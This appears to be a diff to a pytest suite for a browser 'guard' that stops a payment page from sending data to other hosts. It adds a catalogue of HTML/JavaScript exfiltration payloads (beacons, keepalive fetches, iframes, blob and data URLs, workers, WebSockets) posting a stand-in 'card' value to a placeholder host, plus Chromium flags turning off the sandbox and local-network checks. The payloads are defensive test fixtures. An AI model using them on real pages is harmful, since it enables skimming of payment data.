@@ -11,11 +11,12 @@ import re
 import shutil
 import threading
 from collections.abc import Callable, Iterator
-from contextlib import nullcontext
+from contextlib import nullcontext, suppress
 from datetime import UTC, datetime, timedelta
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
+from urllib.parse import unquote
 
 import pytest
 
@@ -202,13 +203,52 @@ def expire(guard: Guard) -> None:
         guard._allowed[key] = msgspec.structs.replace(decision, expires_at=past)
 
 
+SENDS = "fetch('THERE/pay', {method: 'POST', mode: 'no-cors', body: 'card'}); onmessage = () => 0;"
+"""Script that pays at the other host; as a service worker it starts by itself, as any worker does."""
+_FORM = "<form id=f method=post action=THERE/pay></form><script>f.submit()<\\/script>"
+_LEAVES = "<script>onpagehide = () => { SEND }; setTimeout(() => { location = '/shop' }, 50)</script>"
+ATTACKS = {
+    # ways of a navigation
+    "download": "<a id=x download href=THERE/pay></a><script>x.click()</script>",
+    "refresh": "<meta http-equiv=refresh content='0;url=THERE/pay'>",
+    "history": "<script>history.pushState(0, '', '/x'); location.replace('THERE/pay')</script>",
+    "window": "<script>open('THERE/pay', '_blank', 'noopener')</script>",
+    "frame": "<iframe src=THERE/pay></iframe>",
+    "object": "<object data=THERE/pay type=text/html></object>",
+    "frame without address": f"<iframe srcdoc='{_FORM.replace(chr(92), '')}'></iframe>",
+    "blob": f"<script>location = URL.createObjectURL(new Blob([`{_FORM}`], {{type: 'text/html'}}))</script>",
+    "data": f"<iframe id=i></iframe><script>i.src = 'data:text/html,' + encodeURIComponent(`{_FORM}`)</script>",
+    "button": "<form method=post action=/shop><button id=x formaction=THERE/pay></button></form>"
+    "<script>x.click()</script>",
+    # ways of a body
+    "beacon": "<script>navigator.sendBeacon('THERE/pay', 'card')</script>",
+    "ping": "<a id=x ping=THERE/pay href=/shop></a><script>x.click()</script>",
+    "method": "<script>fetch('THERE/pay', {method: 'POST', mode: 'no-cors', keepalive: true})</script>",
+    "beacon on leaving": _LEAVES.replace("SEND", "navigator.sendBeacon('THERE/pay', 'card')"),
+    "fetch on leaving": _LEAVES.replace(
+        "SEND", "fetch('THERE/pay', {method: 'POST', mode: 'no-cors', keepalive: true})"
+    ),
+    "request on leaving": _LEAVES.replace("SEND", "fetch(new Request('THERE/pay', {method: 'POST', keepalive: true}))"),
+    "fetch of a frame on leaving": "<iframe id=i></iframe>"
+    + _LEAVES.replace("SEND", "i.contentWindow.fetch('THERE/pay', {method: 'POST', mode: 'no-cors', keepalive: true})"),
+    "fetch later": _LEAVES.replace("SEND", "window.fetchLater?.('THERE/pay', {method: 'POST', body: 'card'})"),
+    "worker": "<script>new Worker('/worker.js')</script>",
+    "shared worker": "<script>new SharedWorker('/worker.js')</script>",
+    "shared worker of a frame": "<iframe id=i></iframe><script>new i.contentWindow.SharedWorker('/worker.js')</script>",
+    "service worker": "<script>navigator.serviceWorker.register('/worker.js')</script>",
+    # sockets
+    "socket of a frame": "<iframe id=i></iframe>"
+    "<script>new i.contentWindow.WebSocket('THERE/pay'.replace('http', 'ws'))</script>",
+}
+
+
 class Site(BaseHTTPRequestHandler):
     """A shop on 127.0.0.1; to a browser the same server as `localhost` is another host."""
 
     paid: list[str]
 
     def do_GET(self) -> None:
-        place, host = self.path.partition("?")[0], self.headers["host"].partition(":")[0]
+        place, host = unquote(self.path.partition("?")[0]), self.headers["host"].partition(":")[0]
         port = self.server.server_address[1]
         if self.command == "POST":
             self.rfile.read(int(self.headers["content-length"]))
@@ -218,9 +258,16 @@ class Site(BaseHTTPRequestHandler):
         self.send_response(307 if place == "/near" else 302 if place in moves else 200)
         if place in moves:
             self.send_header("Location", moves[place])
-        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Type", "text/javascript" if place.endswith(".js") else "text/html")
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.send_header("Access-Control-Allow-Methods", "*")
         self.send_header("Cache-Control", "no-store")
         self.end_headers()
+        there = f"http://localhost:{port}"
+        if place.startswith("/attack/"):
+            self.wfile.write(ATTACKS[place.removeprefix("/attack/")].replace("THERE", there).encode())
+        if place.endswith(".js"):
+            self.wfile.write(SENDS.replace("THERE", there).encode())
         if place in {"/shop", "/"}:
             self.wfile.write(
                 f"""<form method=post action=/pay><button id=here>Pay</button></form>
@@ -233,10 +280,14 @@ class Site(BaseHTTPRequestHandler):
                   .catch(() => 0).then(() => document.title = 'sent')">Pay</button>""".encode()
             )
 
-    do_POST = do_GET  # noqa: N815
+    do_POST = do_PUT = do_GET  # noqa: N815
 
     def log_message(self, *_: Any) -> None:
         pass
+
+
+# Chromium stops requests to this machine from pages that a route answered; here the guard alone shall stop them.
+FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-features=LocalNetworkAccessChecks"]
 
 
 @pytest.fixture(scope="module")
@@ -246,7 +297,7 @@ def browser() -> Iterator[Any]:
         pytest.skip("there is no chromium on this machine")
     api = pytest.importorskip("playwright.sync_api", reason="the driver needs the group `browser`")
     with api.sync_playwright() as playwright:
-        made = playwright.chromium.launch(executable_path=program, args=["--no-sandbox", "--disable-gpu"])
+        made = playwright.chromium.launch(executable_path=program, args=FLAGS)
         yield made
         made.close()
 
@@ -293,6 +344,65 @@ def test_a_form_in_a_browser_is_sent_to_a_checked_host_only(guard: Any, browser:
         with nullcontext() if by_script else pytest.raises(Stopped):
             held.raise_if_stopped()
     page.close()
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_page_of_a_checked_host_opens_or_sends_to_another(guard: Any, browser: Any, site: str, attack: str) -> None:
+    context = browser.new_context()
+    guard.hold(context, "payment")
+    page = context.new_page()
+    with suppress(Exception):  # the page may leave, or be stopped, while it is loading
+        page.goto(f"{site}/attack/{attack.replace(' ', '%20')}")
+    for _ in range(30 if isinstance(guard, Off) else 10):
+        page.wait_for_timeout(100)
+        if Site.paid:
+            break
+    context.close()
+
+    assert bool(Site.paid) is isinstance(guard, Off), Site.paid
+
+
+def test_what_a_held_page_sends_to_its_own_host_arrives(browser: Any, site: str, answers: Answers) -> None:
+    context = browser.new_context()
+    held = Guard(answers).hold(context, "payment")
+    page = context.new_page()
+    page.goto(f"{site}/shop")
+    status = page.evaluate("""async () => {
+      navigator.sendBeacon("/pay", "card");
+      const body = new Blob(["card"]);
+      return (await fetch(new Request("/pay", { method: "PUT", body, keepalive: true }))).status;
+    }""")
+    page.wait_for_timeout(200)
+    context.close()
+
+    assert (status, sorted(Site.paid), held.stops, held.blocked) == (
+        200,
+        ["POST 127.0.0.1", "PUT 127.0.0.1"],
+        [],
+        [],
+    )
+
+
+OUTSIDE = {
+    "GET requests of scripts": "fetch('THERE/pay', {mode: 'no-cors'})",
+    "images": "new Image().src = 'THERE/pay'",
+    "workers' WebSockets": "const open = `new WebSocket('THERE/pay'.replace('http', 'ws'))`;"
+    "new Worker(URL.createObjectURL(new Blob([open])))",
+}
+
+
+@pytest.mark.parametrize("words", OUTSIDE)
+def test_what_the_guide_says_is_not_held_is_not_held(browser: Any, site: str, answers: Answers, words: str) -> None:
+    context = browser.new_context()
+    Guard(answers).hold(context, "payment")
+    page = context.new_page()
+    page.goto(f"{site}/shop")
+    page.evaluate(f"() => {{ {OUTSIDE[words].replace('THERE', site.replace('127.0.0.1', 'localhost'))} }}")
+    page.wait_for_timeout(500)
+    context.close()
+
+    assert Site.paid == ["GET localhost"]
+    assert words in GUIDE.partition("does not stop a page from reading elsewhere")[2]
 
 
 @pytest.mark.parametrize("place", ["/away", "/on"])
